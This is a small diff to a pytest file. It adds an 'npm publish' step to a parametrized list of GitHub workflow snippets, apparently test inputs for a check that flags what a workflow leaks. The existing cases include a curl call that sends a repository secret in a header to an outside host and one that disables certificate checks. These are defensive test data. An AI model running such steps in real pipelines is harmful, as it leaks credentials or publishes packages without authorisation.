@@ -100,6 +100,7 @@ def test_what_a_workflow_gives_away(text: str):
 @pytest.mark.parametrize(
     "text",
     [
+        f"{PUSH}{STEP}npm publish --tag next --access public\n",
         f"{PUSH}{STEP}curl -k https://example.org\n",
         f"{PUSH}{STEP}curl -fsSL -H 'X: ${{{{ secrets.T }}}}' https://example.org\n",
         f"{PUSH}    steps:\n      - uses: actions/upload-artifact@v4\n        with:\n          path: output/\n",
